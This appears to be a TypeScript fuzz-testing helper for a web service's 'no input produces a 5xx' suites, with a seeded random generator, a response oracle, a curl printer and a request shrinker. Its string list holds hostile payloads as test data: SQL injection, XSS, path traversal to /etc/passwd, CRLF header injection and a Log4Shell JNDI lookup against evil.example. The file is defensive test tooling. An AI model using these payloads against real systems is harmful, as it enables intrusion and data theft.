/**
 * A small deterministic generator of hostile inputs for the "no input produces a 5xx" suites:
 * a seeded PRNG (mulberry32), so a failure names the seed and the request number and replays exactly.
 */
export class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  /** A float in [0, 1). */
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(max: number): number {
    return Math.floor(this.next() * max);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }
}

/** Strings that break parsers, databases, HTML, headers and URLs; some are deliberately not valid UTF-16. */
export const ODD_STRINGS: readonly string[] = [
  '',
  ' ',
  'x'.repeat(10_000),
  'c'.repeat(129),
  'u'.repeat(256),
  '😀'.repeat(64),
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ü ß İ ﬃ',
  'e\u0301\u0301\u0301',
  '\u202egnp.exe',
  '\ufeff\ufffe\uffff',
  '\ud800',
  'a\udc00b',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u001b[31m\u007f',
  '\r\n',
  'x\r\nLocation: https://evil.example\r\nSet-Cookie: a=b',
  '\t\v\f',
  "' OR '1'='1' -- ",
  '"; DROP TABLE users; --',
  '\\',
  '%',
  '%ZZ',
  '%C3%28',
  '%00',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'\"><svg/onload=alert(1)>",
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  '-1',
  '0',
  '1e309',
  'NaN',
  '0x1f',
  '99999999999999999999999',
  '1.5',
  'true',
  'null',
  '[]',
  '{}',
  'openid openid',
  'openid\u0000admin',
  'admin',
  ' openid  profile ',
  'https://evil.example/cb',
  '+4915112345678',
  'user@example.com',
];

const UNRESERVED = /[A-Za-z0-9\-._~]/;

/**
 * Percent-encodes a value for a query string or form body, as UTF-8. Lone surrogates become U+FFFD
 * (what a browser sends). With `raw`, '%' and the characters a URL may carry literally are left as
 * they are, so invalid escapes such as "%ZZ" and "%C3%28" reach the server.
 */
export function percentEncode(value: string, raw = false): string {
  let out = '';
  for (const char of value) {
    if (UNRESERVED.test(char) || (raw && /[%!$'()*,/:;@?[\]]/.test(char))) out += char;
    else for (const byte of Buffer.from(char, 'utf8')) out += `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** A form/query string from name-value pairs; a pair may repeat a name. */
export function encodePairs(pairs: [string, string][], rng: Rng): string {
  return pairs.map(([name, value]) => `${percentEncode(name, rng.chance(0.2))}=${percentEncode(value, rng.chance(0.3))}`).join('&');
}

/** An arbitrary JSON value, nested up to `depth`. */
export function oddJson(rng: Rng, depth = 3): unknown {
  const kind = rng.int(depth > 0 ? 9 : 6);
  switch (kind) {
    case 0:
      return rng.pick(ODD_STRINGS);
    case 1:
      return rng.pick([0, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 31, 2 ** 53]);
    case 2:
      return rng.chance(0.5);
    case 3:
      return null;
    case 4:
      return rng.pick(ODD_STRINGS).slice(0, 64);
    case 5:
      return rng.pick(['', 'x', '😀']);
    case 6:
    case 7:
      return Array.from({ length: rng.int(4) }, () => oddJson(rng, depth - 1));
    default: {
      const object: Record<string, unknown> = {};
      for (let i = rng.int(4); i > 0; i--) object[rng.pick(['a', 'keys', 'kty', '$ref', '0', 'x'.repeat(300)])] = oddJson(rng, depth - 1);
      return object;
    }
  }
}

/** Text in a response that looks like a stack trace or an internal path. */
export const STACK_LIKE = /\bat [\w.<>]+ \(|\bat .*\.(?:ts|js):\d+|node_modules|\/src\/|QueryFailedError|TypeORMError|\bER_[A-Z_]{4,}|\bSQLITE_[A-Z]+/;

/** One generated HTTP request: what the generator sends, what the shrinker reduces, what a failure prints. */
export interface FuzzRequest {
  method: 'get' | 'post' | 'put' | 'patch' | 'delete';
  /** Path and raw query string. */
  path: string;
  headers: Record<string, string>;
  body?: string | Buffer;
}

/** What came back (status -1: no response at all, a hang past the per-request timeout or a reset). */
export interface FuzzResponse {
  status: number;
  text: string;
  headers: Record<string, string | string[] | undefined>;
}

/**
 * The seed of request `index` of run `seed`: each request is generated from its own PRNG, so that
 * request #n of a seed is the same whatever ran before it and however many ran in parallel.
 */
export function requestSeed(seed: number, index: number): number {
  let h = (seed ^ Math.imul(index + 1, 0x9e3779b1)) >>> 0;
  h = Math.imul(h ^ (h >>> 16), 0x85ebca6b) >>> 0;
  h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35) >>> 0;
  return (h ^ (h >>> 16)) >>> 0;
}

/** A log line at error level or above (pino JSON: level as a label, or as pino's number). */
export function isErrorLogLine(entry: Record<string, unknown>): boolean {
  return entry.level === 'error' || entry.level === 'fatal' || (typeof entry.level === 'number' && entry.level >= 50);
}

/**
 * The oracle of the hostile-input suites: what is wrong with one response, in a word or two
 * (undefined when nothing is). A 5xx, no response (hang or reset), a body that looks like a stack
 * trace or names internals, a Location header with bytes a header must not carry, or an error
 * logged while the request ran.
 */
export function judge(res: FuzzResponse, logs: readonly Record<string, unknown>[] = []): string | undefined {
  if (res.status < 0) return 'no response';
  if (res.status >= 500) return `status ${res.status}`;
  if (STACK_LIKE.test(res.text ?? '')) return 'stack-like body';
  const location = res.headers.location;
  if (location !== undefined && (typeof location !== 'string' || !/^[\x21-\x7e]+$/.test(location))) return 'unsafe Location';
  const logged = logs.find(isErrorLogLine);
  if (logged) return `logged ${String(logged.level)}`;
  if (logs.some((entry) => STACK_LIKE.test(JSON.stringify(entry)))) return 'stack trace in logs';
  return undefined;
}

/** The request as a curl command line (what a failure prints), against `base`. */
export function describeRequest(req: FuzzRequest, base = 'http://localhost:3000'): string {
  const quote = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
  const parts = ['curl', '-i', '-X', req.method.toUpperCase(), quote(`${base}${req.path}`)];
  for (const [name, value] of Object.entries(req.headers)) parts.push('-H', quote(`${name}: ${value}`));
  if (req.body !== undefined) {
    const body = Buffer.isBuffer(req.body) ? req.body : Buffer.from(req.body, 'utf8');
    if (/^[\x20-\x7e]*$/.test(body.toString('latin1'))) {
      parts.push('--data-binary', quote(body.toString('latin1')));
    } else {
      // Bytes a shell line cannot carry: printf writes them, curl reads them from stdin.
      const escaped = [...body].map((byte) => (byte >= 0x20 && byte < 0x7f && byte !== 0x27 && byte !== 0x5c && byte !== 0x25 ? String.fromCharCode(byte) : `\\x${byte.toString(16).padStart(2, '0')}`)).join('');
      return `printf '${escaped}' | ${[...parts, '--data-binary', '@-'].join(' ')}`;
    }
  }
  return parts.join(' ');
}

/** Smaller variants of a request, each one step simpler: a header, a form pair, a JSON member, a query pair, half a value dropped. */
export function simplifications(req: FuzzRequest): FuzzRequest[] {
  const out: FuzzRequest[] = [];
  for (const name of Object.keys(req.headers)) {
    const headers = { ...req.headers };
    delete headers[name];
    out.push({ ...req, headers });
  }
  if (req.body !== undefined) {
    const text = Buffer.isBuffer(req.body) ? undefined : req.body;
    if (req.body.length > 0) out.push({ ...req, body: '' });
    if (Buffer.isBuffer(req.body)) out.push({ ...req, body: req.body.toString('latin1').replace(/[^\x20-\x7e]/g, '') });
    let json: unknown;
    try {
      json = text === undefined ? undefined : JSON.parse(text);
    } catch {
      json = undefined;
    }
    if (json !== null && typeof json === 'object') {
      const entries = Object.entries(json);
      for (let i = 0; i < entries.length; i++) {
        const rest = entries.filter((_, j) => j !== i);
        out.push({ ...req, body: JSON.stringify(Array.isArray(json) ? rest.map(([, v]) => v) : Object.fromEntries(rest)) });
        const [key, value] = entries[i];
        if (typeof value === 'string' && value.length > 1) {
          const halved = entries.map(([k, v]) => [k, k === key ? v.slice(0, Math.floor(v.length / 2)) : v]);
          out.push({ ...req, body: JSON.stringify(Array.isArray(json) ? halved.map(([, v]) => v) : Object.fromEntries(halved)) });
        } else if (value !== null && typeof value === 'object') {
          const flat = entries.map(([k, v]) => [k, k === key ? (Array.isArray(v) ? [] : {}) : v]);
          out.push({ ...req, body: JSON.stringify(Array.isArray(json) ? flat.map(([, v]) => v) : Object.fromEntries(flat)) });
        }
      }
    } else if (text !== undefined) {
      out.push(...splitVariants(text, '&').map((body) => ({ ...req, body })));
    }
  }
  const q = req.path.indexOf('?');
  if (q >= 0) {
    const [path, query] = [req.path.slice(0, q), req.path.slice(q + 1)];
    out.push({ ...req, path });
    out.push(...splitVariants(query, '&').map((variant) => ({ ...req, path: `${path}?${variant}` })));
  }
  for (const [name, value] of Object.entries(req.headers)) {
    if (value.length > 16) out.push({ ...req, headers: { ...req.headers, [name]: value.slice(0, Math.ceil(value.length / 2)) } });
  }
  return out;
}

/** `text` split on `separator` with one part left out, or one long part halved. */
function splitVariants(text: string, separator: string): string[] {
  const parts = text.split(separator);
  const out: string[] = [];
  for (let i = 0; i < parts.length; i++) {
    if (parts.length > 1) out.push(parts.filter((_, j) => j !== i).join(separator));
    const eq = parts[i].indexOf('=');
    const value = eq >= 0 ? parts[i].slice(eq + 1) : parts[i];
    if (value.length > 1) {
      // Cut on an escape boundary, so that a halved %XX stays an escape.
      let cut = Math.floor(value.length / 2);
      while (cut > 0 && (value[cut - 1] === '%' || value[cut - 2] === '%')) cut--;
      out.push(parts.map((p, j) => (j === i ? `${eq >= 0 ? p.slice(0, eq + 1) : ''}${value.slice(0, cut)}` : p)).join(separator));
    }
  }
  return out;
}

const requestSize = (req: FuzzRequest) => req.path.length + (req.body?.length ?? 0) + Object.entries(req.headers).reduce((n, [k, v]) => n + k.length + v.length, 0);

/**
 * Shrinks a failing request to a minimal one that still fails the same way (delta debugging,
 * greedily): tries every one-step simplification, keeps the first that still fails, and starts
 * again, until none does or `maxAttempts` requests have been sent.
 */
export async function shrink(
  failing: FuzzRequest,
  stillFails: (req: FuzzRequest) => Promise<boolean>,
  maxAttempts = 300,
): Promise<{ request: FuzzRequest; attempts: number }> {
  let current = failing;
  let attempts = 0;
  for (let progress = true; progress && attempts < maxAttempts; ) {
    progress = false;
    for (const candidate of simplifications(current)) {
      if (requestSize(candidate) >= requestSize(current) && Object.keys(candidate.headers).length >= Object.keys(current.headers).length) continue;
      if (++attempts > maxAttempts) break;
      if (await stillFails(candidate)) {
        current = candidate;
        progress = true;
        break;
      }
    }
  }
  return { request: current, attempts };
}
